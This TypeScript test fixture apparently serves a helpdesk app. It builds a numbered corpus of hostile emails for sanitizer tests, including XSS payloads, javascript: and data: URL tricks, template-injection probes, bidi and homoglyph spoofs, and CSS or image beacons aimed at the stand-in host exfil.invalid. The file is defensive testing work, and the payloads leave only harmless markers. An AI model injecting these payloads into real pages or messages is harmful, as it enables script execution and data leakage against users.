/**
 * Hostile mail: a deterministic corpus of strings a customer (or an imported article) could send,
 * written for SoloDesk (issue 7 §2). Every input carries a unique number `n`, so a payload that
 * ever ran would be visible: script vectors set `window.__pwned_<n>` and call `alert(<n>)`, and
 * fetch vectors point at `https://exfil.invalid/<n>` (the `.invalid` TLD never resolves, and the
 * browser tests' interception records any request anyway).
 *
 * The same inputs serve as subjects, sender names, bodies and article texts; `hugeBody` and
 * `longThread` build the size attacks separately because they are not short strings.
 */

export type HostileKind =
  | 'html-script'
  | 'url-scheme'
  | 'exfiltration'
  | 'template'
  | 'bidi'
  | 'broken-markup'
  | 'unicode';

export interface HostileInput {
  n: number;
  kind: HostileKind;
  /** What the vector tries, for test names. */
  name: string;
  text: string;
}

/** A script body that would leave a trace if it ran (no spaces, so it survives unquoted attributes). */
export const js = (n: number) => `window.__pwned_${n}=1;alert(${n})`;
export const exfil = (n: number) => `https://exfil.invalid/${n}`;

type Vector = [name: string, build: (n: number) => string];

const SCRIPT: Vector[] = [
  ['script tag', (n) => `<script>${js(n)}</script>`],
  ['img onerror', (n) => `<img src=x onerror="${js(n)}">`],
  ['svg onload', (n) => `<svg onload=${js(n)}>`],
  ['script in svg', (n) => `<svg><script>${js(n)}</script></svg>`],
  ['iframe srcdoc', (n) => `<iframe srcdoc="<script>parent.${js(n)}</script>"></iframe>`],
  ['body onload', (n) => `<body onload=${js(n)}>`],
  ['details ontoggle', (n) => `<details open ontoggle=${js(n)}><summary>x</summary></details>`],
  ['video source onerror', (n) => `<video><source onerror="${js(n)}"></video>`],
  ['input autofocus onfocus', (n) => `<input autofocus onfocus=${js(n)}>`],
  ['style in math table (mutation)', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${js(n)}>`],
  ['noscript title breakout', (n) => `<noscript><p title="</noscript><img src=x onerror=${js(n)}>">`],
  ['template content', (n) => `<template><img src=x onerror=${js(n)}></template>`],
  ['attribute breakout', (n) => `"><script>${js(n)}</script>`],
  ['comment and style breakout', (n) => `--></style></script><script>${js(n)}</script>`],
  ['textarea and title breakout', (n) => `</textarea></title><img src=x onerror=${js(n)}>`],
  ['event handler with entities', (n) => `<img src=x onerror="&#119;indow.__pwned_${n}=1">`],
  ['marquee onstart', (n) => `<marquee onstart=${js(n)}>x</marquee>`],
  ['audio onerror', (n) => `<audio src=x onerror=${js(n)}>`],
  ['div onmouseover', (n) => `<div onmouseover="${js(n)}" style="position:fixed;inset:0">hover</div>`],
  ['animate onbegin', (n) => `<svg><animate onbegin=${js(n)} attributeName=x dur=1s>`],
  ['object javascript data', (n) => `<object data="javascript:${js(n)}"></object>`],
  ['embed html data url', (n) => `<embed src="data:text/html,<script>${js(n)}</script>">`],
  ['js string breakout', (n) => `';${js(n)};//\\";${js(n)};//`],
  ['JSON breakout', (n) => `"}]});${js(n)};({"x":[{"y":"`],
];

const URL_SCHEME: Vector[] = [
  ['javascript link', (n) => `<a href="javascript:${js(n)}">track my order</a>`],
  ['bare javascript url', (n) => `javascript:${js(n)}`],
  ['mixed-case javascript', (n) => `JaVaScRiPt:${js(n)}`],
  ['tab inside scheme', (n) => `<a href="jav\tascript:${js(n)}">x</a>`],
  ['entity-encoded scheme', (n) => `<a href="&#106;avascript:${js(n)}">x</a>`],
  ['leading space scheme', (n) => `<a href=" javascript:${js(n)}">x</a>`],
  ['vbscript', (n) => `<a href="vbscript:msgbox(${n})">x</a>`],
  ['data html', (n) => `<a href="data:text/html,<script>${js(n)}</script>">x</a>`],
  ['data base64', (n) => `<iframe src="data:text/html;base64,${btoa(`<script>${js(n)}</script>`)}"></iframe>`],
  ['markdown javascript link', (n) => `[refund form](javascript:${js(n)})`],
  ['form action', (n) => `<form action="${exfil(n)}"><input name=q value=secret><button>Send</button></form>`],
  ['button formaction', (n) => `<button formaction="javascript:${js(n)}">Confirm</button>`],
  ['meta refresh', (n) => `<meta http-equiv="refresh" content="0;url=${exfil(n)}">`],
  ['base href', (n) => `<base href="${exfil(n)}/">`],
  ['svg xlink href', (n) => `<svg><a xlink:href="javascript:${js(n)}"><text y=20>x</text></a></svg>`],
  ['area href', (n) => `<map><area href="javascript:${js(n)}" shape=rect coords=0,0,9,9></map>`],
];

const EXFILTRATION: Vector[] = [
  ['style import', (n) => `<style>@import url(${exfil(n)}.css)</style>`],
  ['link stylesheet', (n) => `<link rel=stylesheet href="${exfil(n)}.css">`],
  ['attribute selector beacon', (n) => `<style>input[value^="a"]{background:url(${exfil(n)}?a)}</style>`],
  ['inline style background', (n) => `<div style="background:url(${exfil(n)}.png)">x</div>`],
  ['remote image', (n) => `<img src="${exfil(n)}.png" width=1 height=1>`],
  ['image srcset', (n) => `<img srcset="${exfil(n)}.png 1x">`],
  ['picture source', (n) => `<picture><source srcset="${exfil(n)}.webp"><img></picture>`],
  ['font-face', (n) => `<style>@font-face{font-family:x;src:url(${exfil(n)}.woff)}body{font-family:x}</style>`],
  ['link prefetch', (n) => `<link rel=prefetch href="${exfil(n)}">`],
  ['video poster', (n) => `<video poster="${exfil(n)}.jpg"></video>`],
  ['table background', (n) => `<table background="${exfil(n)}.gif"><tr><td>x</td></tr></table>`],
  ['svg image', (n) => `<svg><image href="${exfil(n)}.svg" /></svg>`],
  ['css url in text', (n) => `body{background:url('${exfil(n)}')}`],
  ['markdown image', (n) => `![logo](${exfil(n)}.png)`],
];

const TEMPLATE: Vector[] = [
  ['constructor chain', (n) => `{{constructor.constructor('${js(n)}')()}}`],
  ['proto', () => `{{__proto__}}`],
  ['proto property', () => `{{__proto__.polluted}}`],
  ['constructor', () => `{{constructor}}`],
  ['customer proto with fallback', (n) => `{{customer.__proto__.x | "__pwned_${n}"}}`],
  ['js template literal', (n) => `\${${js(n)}}`],
  ['ruby/pug interpolation', (n) => `#{${js(n)}}`],
  ['erb', (n) => `<%= ${js(n)} %>`],
  ['arithmetic probe', (n) => `{{7*${n}}}`],
  ['jinja block', (n) => `{% for x in ().__class__ %}${n}{% endfor %}`],
  ['angular sandbox', (n) => `{{'a'.constructor.prototype.charAt=[].join;$eval('${js(n)}')}}`],
  ['handlebars helper', (n) => `{{#with "s" as |x|}}{{x.constructor "${js(n)}"}}{{/with}}`],
  ['variable naming another', () => `{{agent.name}} {{company.name}} {{customer.email}}`],
  ['replace specials', (n) => `$& $1 $\` $' $$ __pwned_${n}`],
  ['unclosed variable', (n) => `Hi {{customer.firstName ${n}`],
  ['triple stache', (n) => `{{{${js(n)}}}}`],
];

const BIDI: Vector[] = [
  ['right-to-left override filename', (n) => `invoice_${n}\u202Efdp.exe`],
  ['RLO wrapped subject', (n) => `\u202ERefund ${n} approved\u202C`],
  ['left-to-right override', (n) => `\u202Dorder ${n}\u202C`],
  ['isolates unbalanced', (n) => `\u2067\u2066\u2068order ${n}`],
  ['zero-width joiners', (n) => `p\u200Ba\u200Cy\u200Dp\u2060a\uFEFFl ${n}`],
  ['arabic letter mark', (n) => `\u061C${n}\u061C refund`],
  ['soft hyphens', (n) => `ja\u00ADva\u00ADscript:${js(n)}`],
  ['line and paragraph separators', (n) => `line\u2028break\u2029para ${n}`],
  ['mixed RTL text', (n) => `طلب ${n} \u202Eabc\u202C שלום`],
  ['homoglyph domain', (n) => `Pay at https://pаypal.com/${n} (Cyrillic a)`],
];

const BROKEN_MARKUP: Vector[] = [
  ['unclosed tags', (n) => `<div><span><b><i>order ${n}`],
  ['unclosed comment', (n) => `<!-- ${n} never closed`],
  ['cdata', (n) => `<![CDATA[<script>${js(n)}</script>]]>`],
  ['stray closers', (n) => `</div></div></td></table></body></html>${n}`],
  ['plaintext', (n) => `<plaintext><script>${js(n)}</script>`],
  ['xmp', (n) => `<xmp></xmp><img src=x onerror=${js(n)}>`],
  ['nested script split', (n) => `<scr<script>ipt>${js(n)}</scr</script>ipt>`],
  ['nul in tag', (n) => `<scr\u0000ipt>${js(n)}</script>`],
  ['unquoted attributes', (n) => `<a href=${exfil(n)} title=a b c>x`],
  ['doctype mid-text', (n) => `<!DOCTYPE html><html><head><title>${n}</title>`],
  ['processing instruction', (n) => `<?xml version="1.0"?><?php echo ${n}; ?>`],
  ['lt gt soup', (n) => `<<>><</>${n}<a <b c=">"> >`],
  ['entities', (n) => `&lt;script&gt;${js(n)}&lt;/script&gt; &amp;amp; &#0; &#x110000;`],
  ['select breakout', (n) => `</option></select><img src=x onerror=${js(n)}>`],
];

const UNICODE: Vector[] = [
  ['lone high surrogate', (n) => `order ${n} \uD800 end`],
  ['lone low surrogate', (n) => `\uDFFF${n}`],
  ['reversed surrogates', (n) => `\uDC00\uD800 ${n}`],
  ['NUL bytes', (n) => `refund\u0000${n}\u0000\u0000`],
  ['C0 and C1 controls', (n) => `\u0001\u0007\u001B[31m${n}\u0085\u009B`],
  ['noncharacters', (n) => `\uFFFE\uFFFF${n}\uFDD0`],
  ['zalgo', (n) => `Z${'\u0336\u0337\u0338\u0334'.repeat(250)}${n}`],
  ['emoji zwj', (n) => `👩\u200D👩\u200D👧\u200D👦 ${n} 🏳️\u200D🌈`],
  ['astral and private use', (n) => `𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \uE000\u{F0000} ${n}`],
  ['very long word', (n) => `${'W'.repeat(20_000)}${n}`],
  ['CJK and full-width markup', (n) => `退款＜script＞${n}＜/script＞`],
  ['only whitespace', (n) => `\u3000\u00A0\u2003 ${n} \t\r\n`],
];

const KINDS: Array<[HostileKind, Vector[]]> = [
  ['html-script', SCRIPT],
  ['url-scheme', URL_SCHEME],
  ['exfiltration', EXFILTRATION],
  ['template', TEMPLATE],
  ['bidi', BIDI],
  ['broken-markup', BROKEN_MARKUP],
  ['unicode', UNICODE],
];

/** Each vector bare, inside an ordinary customer sentence, and after a context breakout. */
const FRAMES: Array<[string, (v: string, n: number) => string]> = [
  ['bare', (v) => v],
  ['in a sentence', (v, n) => `Hello, about order #A-${1000 + n}: ${v} — thanks, Ann`],
  ['after breakout', (v) => `'"--></style></script></textarea>${v}`],
];

/** The whole corpus, in a fixed order with `n` = 1, 2, 3, … (the same on every run). */
export function hostileCorpus(): HostileInput[] {
  const out: HostileInput[] = [];
  for (const [kind, vectors] of KINDS) {
    for (const [name, build] of vectors) {
      for (const [frame, wrap] of FRAMES) {
        const n = out.length + 1;
        out.push({ n, kind, name: `${name} (${frame})`, text: wrap(build(n), n) });
      }
    }
  }
  return out;
}

/** Inputs per kind, for reports. */
export function countByKind(inputs: HostileInput[]): Record<HostileKind, number> {
  const counts = Object.fromEntries(KINDS.map(([k]) => [k, 0])) as Record<HostileKind, number>;
  for (const input of inputs) counts[input.kind] += 1;
  return counts;
}

/**
 * A body of about `bytes` UTF-16 code units, in short lines (how a real long mail arrives), with
 * hostile vectors sprinkled in. Deterministic.
 */
export function hugeBody(bytes = 5_000_000, lineLength = 100): string {
  const corpus = hostileCorpus();
  const lines: string[] = [];
  let size = 0;
  for (let i = 0; size < bytes; i++) {
    const line = i % 50 === 0 ? corpus[i % corpus.length].text.slice(0, lineLength) : `Line ${i} of a very long complaint about order #A-1042. `.padEnd(lineLength, 'x');
    lines.push(line);
    size += line.length + 1;
  }
  return lines.join('\n');
}

/** `count` alternating customer/agent messages; every body and sender name is hostile. */
export function longThread(count = 500): Array<{ from: { name: string; email: string }; body: string; fromMe: boolean }> {
  const corpus = hostileCorpus();
  return Array.from({ length: count }, (_, i) => {
    const fromMe = i % 2 === 1;
    const input = corpus[i % corpus.length];
    return {
      from: fromMe ? { name: 'Me', email: 'me@solodesk-demo.com' } : { name: input.text.slice(0, 200), email: 'attacker@evil.example' },
      body: `Message ${i + 1}. ${input.text}`,
      fromMe,
    };
  });
}

/** Every marker the corpus could leave on `window` if any vector ran. */
export function pwnedMarkers(win: object): string[] {
  return Object.keys(win).filter((k) => k.startsWith('__pwned_'));
}
